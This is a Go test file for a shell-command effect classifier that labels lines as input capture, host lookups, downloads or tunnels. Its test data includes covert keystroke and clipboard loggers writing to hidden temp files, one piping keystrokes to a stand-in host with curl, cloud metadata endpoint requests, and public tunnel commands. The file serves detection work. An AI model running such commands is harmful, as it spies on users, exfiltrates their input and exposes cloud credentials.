package effect

import "testing"

// TestInputCapture checks that what a keystroke recorder prints, and what
// a clipboard read in a loop prints, is input capture: written to a file
// or sent, it flows there; a single paste, a clipboard written to, and the
// input tools' settings are not.
func TestInputCapture(t *testing.T) {
	for line, want := range map[string]string{
		"xinput test-xi2 --root > /tmp/.k.log &":                        "flow:input-capture->file",
		"xinput test 11 | curl -T - https://drop.example.org/k":         "flow:input-capture->network",
		"sudo evtest /dev/input/event3 > /tmp/.e.log":                   "flow:input-capture->file",
		"logkeys -s -o /tmp/.keys.log":                                  "flow:input-capture->file",
		"xev -root -event keyboard > /tmp/.xev":                         "flow:input-capture->file",
		"while true; do xclip -o -selection clipboard >> /tmp/.c; done": "flow:input-capture->file",
		"for i in 1 2 3; do pbpaste >> /tmp/.c; sleep 1; done":          "flow:input-capture->file",
		"while sleep 5; do xsel -ob >> /tmp/.s; done":                   "flow:input-capture->file",
	} {
		if effs := effectsOf(line); !hasEffect(effs, want) {
			t.Errorf("%q: want %s, got %v", line, want, effs)
		}
	}
	for _, line := range []string{
		"pbpaste > notes.txt",
		"xclip -o > notes.txt",
		"while true; do xclip -i < out.txt; sleep 1; done",
		"xinput list > devices.txt",
		"xinput set-prop 12 'libinput Tapping Enabled' 1",
		"while true; do make test >> build/loop.log; sleep 30; done",
	} {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow && len(e.Detail) > 14 && e.Detail[:14] == "input-capture-" {
				t.Errorf("%q: unexpected %v", line, e)
			}
		}
	}
}

// TestLookupConnects checks that a name looked up, an echo or a port
// probed contacts its host as a lookup, which fetches nothing, and that a
// request to the same host is a download.
func TestLookupConnects(t *testing.T) {
	for line, want := range map[string]string{
		"dig +short metadata.google.internal":                         "connect:lookup",
		"nslookup metadata.google.internal":                           "connect:lookup",
		"ping -c1 metadata.google.internal":                           "connect:lookup",
		"traceroute 169.254.169.254":                                  "connect:lookup",
		"nc -zv 169.254.169.254 80":                                   "connect:lookup",
		"nc 169.254.169.254 80":                                       "connect:download",
		"curl -s http://metadata.google.internal/computeMetadata/v1/": "connect:download",
	} {
		if effs := effectsOf(line); !hasEffect(effs, want) {
			t.Errorf("%q: want %s, got %v", line, want, effs)
		}
	}
}

// TestTunnelWords checks that a codespace port made public opens a tunnel
// and one kept private, listed or forwarded here does not, and that a
// funnel turned off or reset opens none.
func TestTunnelWords(t *testing.T) {
	for line, want := range map[string]bool{
		"gh codespace ports visibility 3000:public -c dev":  true,
		"gh codespace ports visibility 3000:private -c dev": false,
		"gh codespace ports -c dev":                         false,
		"gh codespace ports forward 3000:3000 -c dev":       false,
		"tailscale funnel 3000":                             true,
		"tailscale funnel 3000 off":                         false,
		"tailscale funnel reset":                            false,
	} {
		if got := hasEffect(effectsOf(line), "tunnel:service"); got != want {
			t.Errorf("%q: tunnel = %v, want %v", line, got, want)
		}
	}
}
